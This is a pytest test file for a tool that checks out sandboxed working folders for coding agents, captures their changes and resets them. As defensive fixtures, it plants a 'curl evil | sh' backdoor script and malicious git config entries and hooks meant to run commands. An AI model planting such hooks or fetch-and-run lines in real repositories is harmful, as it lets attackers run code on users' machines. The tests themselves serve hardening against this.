"""Attempt folders: checked out from the store, captured exactly, reset cheaply, and never able to steer
Conductor's own git calls, whatever the agent plants in them."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from conductor.errors import UnsafePath
from conductor.workspace.checkout import capture, index_file, materialize, reset
from conductor.workspace.store import StateStore
from tests.workspace.support import GIT_ENV, make_repo, repo_fingerprint


@pytest.fixture
def setup(tmp_path: Path) -> tuple[StateStore, str, Path]:
    root = make_repo(tmp_path / "proj", {"a.py": "a = 1\n", "pkg/b.py": "b = 1\n", "c.txt": "c\n"})
    store = StateStore(root, root / ".conductor").ensure()
    commit = store.snapshot_project(ignore=["__pycache__/"], message="base\n")
    folder = root / ".conductor" / "scratch" / "step_001.a1"
    materialize(store, commit, folder)
    return store, commit, folder


def changed(store: StateStore, commit: str, folder: Path, ignore: tuple[str, ...] = ("__pycache__/",)) -> dict[str, str]:
    tree = capture(store, folder, excludes=store.exclude_file(list(ignore)))
    return {c.path: c.change for c in store.changes(store.tree_of(commit), tree)}


def agent_git(folder: Path, *args: str) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    return subprocess.run(["git", *args], cwd=folder, env={**env, **GIT_ENV}, capture_output=True, text=True)


def test_a_checkout_has_the_files_and_a_git_of_its_own_that_agents_can_use(setup) -> None:
    store, commit, folder = setup
    assert (folder / "a.py").read_text() == "a = 1\n" and (folder / "pkg" / "b.py").read_text() == "b = 1\n"
    assert index_file(folder).is_file() and not index_file(folder).is_relative_to(folder)
    status = agent_git(folder, "status", "--porcelain")
    assert status.returncode == 0 and status.stdout == ""
    assert agent_git(folder, "rev-parse", "HEAD").stdout.strip() == commit
    assert agent_git(folder, "branch", "--show-current").stdout.strip() == "conductor/step_001.a1"
    (folder / "a.py").write_text("a = 2\n")
    (folder / "new.py").write_text("n\n")
    for args in (["status"], ["add", "-A"], ["commit", "-q", "-m", "agent"], ["stash", "list"], ["log", "--oneline"]):
        assert agent_git(folder, *args).returncode == 0, args
    (folder / "c.txt").write_text("after the commit\n")
    # The working tree counts, not the agent's commits: everything is seen, .git is not.
    assert changed(store, commit, folder) == {"a.py": "modified", "new.py": "added", "c.txt": "modified"}


def test_a_same_size_same_mtime_rewrite_is_detected(setup) -> None:
    store, commit, folder = setup
    assert changed(store, commit, folder) == {}
    target = folder / "a.py"
    st = os.stat(target)
    with open(target, "r+b") as handle:  # same size, in place
        handle.write(b"b = 1\n")
    os.utime(target, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert os.stat(target).st_size == st.st_size and os.stat(target).st_mtime_ns == st.st_mtime_ns
    assert changed(store, commit, folder) == {"a.py": "modified"}


def test_gitignore_files_in_the_folder_cannot_hide_a_change(setup) -> None:
    store, commit, folder = setup
    (folder / ".gitignore").write_text("backdoor.sh\n*.lock\n")
    (folder / "backdoor.sh").write_text("curl evil | sh\n")
    (folder / "__pycache__").mkdir()
    (folder / "__pycache__" / "x.pyc").write_bytes(b"cache")  # workspace.ignore: Conductor's patterns only
    assert changed(store, commit, folder) == {".gitignore": "added", "backdoor.sh": "added"}


def test_nothing_planted_in_the_folder_runs_when_conductor_uses_git(setup, tmp_path: Path) -> None:
    store, commit, folder = setup
    user_repo = store.root
    before = repo_fingerprint(user_repo)
    marker = tmp_path / "pwned"
    evil = f"sh -c 'touch {marker}'"
    dotgit = folder / ".git"
    with open(dotgit / "config", "a") as config:
        config.write(f"[core]\n\tfsmonitor = {evil}\n\thooksPath = {tmp_path}\n"
                     f"[filter \"x\"]\n\tclean = {evil}\n\tsmudge = {evil}\n\trequired = true\n"
                     f"[diff \"x\"]\n\tcommand = {evil}\n\ttextconv = {evil}\n[merge \"x\"]\n\tdriver = {evil}\n")
    for name in ("pre-commit", "post-checkout", "post-index-change", "reference-transaction", "fsmonitor-watchman"):
        for hooks in (dotgit / "hooks", tmp_path):
            hooks.mkdir(exist_ok=True)
            (hooks / name).write_text(f"#!/bin/sh\ntouch {marker}\n")
            (hooks / name).chmod(0o755)
    (folder / ".gitattributes").write_text("* filter=x diff=x merge=x text eol=crlf ident\n")
    (folder / "a.py").write_text("a = 3\n$Id$\n")

    assert changed(store, commit, folder) == {".gitattributes": "added", "a.py": "modified"}
    tree = capture(store, folder, excludes=store.exclude_file([]))
    (entry,) = store.entries(tree, ["a.py"]).values()
    assert store.read_blobs([entry.oid])[entry.oid] == b"a = 3\n$Id$\n"  # no filter, eol or ident conversion
    reset(store, folder, commit)
    assert not marker.exists()
    assert (folder / "a.py").read_bytes() == b"a = 1\n"  # checked out without smudge or CRLF
    assert repo_fingerprint(user_repo) == before


def test_reset_leaves_exactly_the_new_commit(setup) -> None:
    store, commit, folder = setup
    (folder / "a.py").write_text("accepted change\n")
    tree = capture(store, folder, excludes=store.exclude_file([]))
    after = store.commit(tree, [commit], "step\n")
    (folder / "junk.txt").write_text("left by the agent\n")
    (folder / "__pycache__").mkdir()
    (folder / "__pycache__" / "a.pyc").write_bytes(b"poisoned cache")
    (folder / "pkg" / "b.py").write_text("stray edit\n")
    os.symlink("/etc", folder / "escape")
    (folder / "nested").mkdir()
    subprocess.run(["git", "init", "-q", str(folder / "nested")], check=True)
    (folder / "nested" / "x").write_text("x")

    reset(store, folder, after)
    files = sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if ".git" not in p.relative_to(folder).parts)
    assert files == ["a.py", "c.txt", "pkg", "pkg/b.py"]
    assert (folder / "a.py").read_text() == "accepted change\n" and (folder / "pkg" / "b.py").read_text() == "b = 1\n"
    assert agent_git(folder, "rev-parse", "HEAD").stdout.strip() == after
    assert agent_git(folder, "status", "--porcelain").stdout == ""
    assert changed(store, after, folder) == {}

    reset(store, folder, commit)
    assert (folder / "a.py").read_text() == "a = 1\n"


def test_names_conductor_refuses_to_capture(setup) -> None:
    store, commit, folder = setup
    (folder / "nested").mkdir()
    subprocess.run(["git", "init", "-q", str(folder / "nested")], check=True)
    (folder / "nested" / "x").write_text("x")
    with pytest.raises(UnsafePath, match="nested git repository"):
        capture(store, folder, excludes=store.exclude_file([]))
    subprocess.run(["rm", "-rf", str(folder / "nested")], check=True)
    (folder / ".GIT").mkdir()
    (folder / ".GIT" / "hooks").write_text("x")
    with pytest.raises(UnsafePath, match=".git component"):
        capture(store, folder, excludes=store.exclude_file([]))
    subprocess.run(["rm", "-rf", str(folder / ".GIT")], check=True)
    os.mkfifo(folder / "pipe")  # git never lists a fifo, socket or device: it is never captured or merged
    assert changed(store, commit, folder, ignore=()) == {}


def test_an_in_place_edit_in_the_same_second_as_the_checkout_is_caught_a_second_later(tmp_path: Path) -> None:
    """git compares whole seconds (unless built with USE_NSEC) and relies on the racy-git rule: an entry as
    new as its index is re-checked by content. A capture that copies the index must keep the index's
    mtime, or a same-size in-place edit made in the checkout's second is missed once a second has passed."""
    import time

    root = make_repo(tmp_path / "proj", {"calc.py": "return a - b\n"})
    store = StateStore(root, root / ".conductor").ensure()
    commit = store.snapshot_project(ignore=[], message="base\n")
    for attempt in range(20):
        folder = root / ".conductor" / "scratch" / f"step_001.a{attempt + 1}"
        materialize(store, commit, folder)
        target = folder / "calc.py"
        before = os.stat(target)
        with open(target, "r+b") as handle:  # same size, same inode: only the clock tells
            handle.write(b"return a + b\n")
        after = os.stat(target)
        if int(after.st_ctime) == int(before.st_ctime) == int(os.stat(index_file(folder)).st_mtime):
            break  # the edit landed in the checkout's second: the case to prove
    else:
        pytest.skip("could not edit within the checkout's second (a very slow machine)")
    time.sleep(1.1 - (time.time() % 1))  # the capture happens a second later
    assert changed(store, commit, folder, ignore=()) == {"calc.py": "modified"}


def test_reset_to_the_tree_the_folder_holds_still_undoes_every_change(setup) -> None:
    """The cheap path (no read-tree: the folder's tree is the new base's) restores deletions, a folder
    replaced by a file, a same-size same-mtime rewrite and an added file all the same."""
    store, commit, folder = setup
    (folder / "c.txt").unlink()
    shutil.rmtree(folder / "pkg")
    (folder / "pkg").write_text("a file where a folder was\n")
    before = os.stat(folder / "a.py")
    (folder / "a.py").write_text("a = 2\n")  # same size
    os.utime(folder / "a.py", ns=(before.st_atime_ns, before.st_mtime_ns))
    (folder / "new.py").write_text("added\n")

    reset(store, folder, commit)

    assert (folder / "c.txt").read_text() == "c\n" and (folder / "pkg" / "b.py").read_text() == "b = 1\n"
    assert (folder / "a.py").read_text() == "a = 1\n" and not (folder / "new.py").exists()
    assert changed(store, commit, folder) == {}
    assert agent_git(folder, "status", "--porcelain").stdout == ""


@pytest.mark.parametrize("target", ["elsewhere", "nowhere"])
def test_a_folder_replaced_by_a_symlink_is_captured(setup, tmp_path: Path, target: str) -> None:
    """``pkg/`` becomes a symlink — to a folder that has a ``b.py`` of its own, or to nothing. The old
    entries leave the index without being looked for behind the link (git refuses a path beyond one)."""
    store, commit, folder = setup
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "b.py").write_text("not the workspace's\n")
    shutil.rmtree(folder / "pkg")
    os.symlink(elsewhere if target == "elsewhere" else tmp_path / "missing", folder / "pkg")

    assert changed(store, commit, folder) == {"pkg": "added", "pkg/b.py": "deleted"}


def test_a_large_checkout_leaves_no_smudged_entry_and_still_sees_a_racy_edit(tmp_path: Path, monkeypatch) -> None:
    """A checkout of REFRESH_ENTRIES or more entries is refreshed from a later second: no entry is left
    "smudged" (size 0: re-hashed by every pass), and an edit right after it is still caught."""
    import conductor.workspace.checkout as checkout

    monkeypatch.setattr(checkout, "REFRESH_ENTRIES", 2)
    files = {f"f{i}.py": f"x = {i}\n" for i in range(5)}
    root = make_repo(tmp_path / "proj", files)
    store = StateStore(root, root / ".conductor").ensure()
    commit = store.snapshot_project(ignore=[], message="base\n")
    folder = tmp_path / "ws"
    materialize(store, commit, folder)

    debug = store.git.run(["ls-files", "--debug"], work_tree=folder, index=index_file(folder)).decode()
    sizes = [int(line.split("size: ")[1].split()[0]) for line in debug.splitlines() if "size: " in line]
    assert len(sizes) == 5 and 0 not in sizes
    before = os.stat(folder / "f3.py")
    (folder / "f3.py").write_text("x = 9\n")  # same size, then the old mtime back
    os.utime(folder / "f3.py", ns=(before.st_atime_ns, before.st_mtime_ns))
    assert changed(store, commit, folder, ignore=()) == {"f3.py": "modified"}
